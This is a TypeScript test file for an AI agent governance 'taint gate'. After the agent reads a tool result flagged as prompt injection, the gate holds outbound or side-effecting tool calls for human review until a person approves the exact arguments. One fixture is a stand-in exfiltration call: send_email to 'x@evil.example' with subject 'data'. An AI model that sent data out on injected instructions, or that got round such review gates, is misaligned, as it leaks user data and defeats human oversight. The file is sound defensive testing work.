import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { GovernanceSectionInput } from "../spec/governance-section.ts";
import { createGovernor } from "./create-governor.ts";
import { fixtureAgent, toolRequest } from "./governance-test-fixtures.ts";
import type { TaintGate } from "./governed-agent.ts";
import type { ActionRequest, ContextTaint } from "./governor.ts";
import { createMemoryGovernanceStore } from "./memory-governance-store.ts";

const signal = new AbortController().signal;

/** Every tool runs on its own but refunds above 500: what the taint gate adds is all there is to see. */
const OPEN: GovernanceSectionInput = {
  allowedTools: ["search_kb", "get_order", "issue_refund", "send_email", "create_ticket"],
  decisionAuthority: {
    autonomous: ["search_kb", "get_order", "issue_refund", "send_email", "create_ticket"],
    requiresHumanReview: [
      { tool: "create_ticket", when: 'input.subject == "escalate"', reason: "escalations go to a lead" },
    ],
    forbidden: [
      { tool: "issue_refund", when: "input.amount > 500", reason: "refunds above 500 go to finance" },
    ],
  },
  dataAccess: { allowPii: true, allowFinancial: true },
};

const TAINT: ContextTaint = {
  tool: "fetch_page",
  callId: "c3",
  detector: "injection@1",
  classes: ["data_exfiltration"],
};

async function governorWith(taintGate?: TaintGate) {
  const governor = createGovernor({ store: createMemoryGovernanceStore() });
  await governor.load({ ...fixtureAgent({ governance: OPEN }), ...(taintGate ? { taintGate } : {}) });
  return governor;
}

const tainted = (request: ActionRequest): ActionRequest => ({ ...request, taints: [TAINT] });
const email = toolRequest("send_email", { to: "x@evil.example", subject: "data", body: "records" });
const refund = (amount: number) => toolRequest("issue_refund", { orderId: 1042, amount, reason: "asked" });

describe("the taint gate", () => {
  test("holds a tainted run's outbound call for review, naming the flagged result; an untainted one runs", async () => {
    const governor = await governorWith();
    assert.equal((await governor.decide(email, { signal })).decision, "allow");
    const held = await governor.decide(tainted(email), { signal });
    assert.deepEqual(
      [held.decision, held.stage, held.policies],
      ["review", "policy", ["guards.toolResults.taint"]],
    );
    assert.deepEqual(held.reasons, [
      "the run read a result flagged as prompt injection from fetch_page (call c3, injection@1), so send_email, which sends data outside, needs review",
    ]);
  });

  test("outbound (the default) leaves side effects alone; side-effects holds them; off holds nothing", async () => {
    const byGate = async (gate: TaintGate | undefined) => {
      const governor = await governorWith(gate);
      return [
        (await governor.decide(tainted(email), { signal })).decision,
        (await governor.decide(tainted(refund(50)), { signal })).decision,
        (await governor.decide(tainted(toolRequest("get_order", { orderId: 1 })), { signal })).decision,
      ];
    };
    assert.deepEqual(await byGate(undefined), ["review", "allow", "allow"]);
    assert.deepEqual(await byGate("side-effects"), ["review", "review", "allow"]);
    assert.deepEqual(await byGate("off"), ["allow", "allow", "allow"]);
  });

  test("a deny stays a deny; a policy's review keeps its reasons beside the taint's", async () => {
    const governor = await governorWith("side-effects");
    const denied = await governor.decide(tainted(refund(900)), { signal });
    assert.equal(denied.decision, "deny");
    const escalation = toolRequest("create_ticket", { subject: "escalate", body: "see the page" });
    const both = await governor.decide(tainted(escalation), { signal });
    assert.equal(both.decision, "review");
    assert.equal(both.policies.length, 2);
    assert.equal(both.policies[1], "guards.toolResults.taint");
    assert.match(both.reasons[0] ?? "", /escalations go to a lead/);
    assert.match(both.reasons[1] ?? "", /so create_ticket, which changes things, needs review/);
  });

  test("a person's approval bound to these arguments lets the held call run", async () => {
    const governor = await governorWith();
    const approved: ActionRequest = {
      ...tainted(email),
      approval: { id: "apr_1", argumentsHash: email.tool!.argumentsHash, approvedBy: ["lee"] },
    };
    const decision = await governor.decide(approved, { signal });
    assert.equal(decision.decision, "allow");
    assert.match(decision.reasons.at(-1) ?? "", /approved by lee/);
  });

  test("malformed taints are missing session state, denied", async () => {
    const governor = await governorWith();
    const malformed = { ...email, taints: [{ tool: 3 }] } as unknown as ActionRequest;
    const decision = await governor.decide(malformed, { signal });
    assert.equal(decision.decision, "deny");
    assert.equal(decision.decision === "deny" ? decision.code : null, "missing_session_state");
  });
});
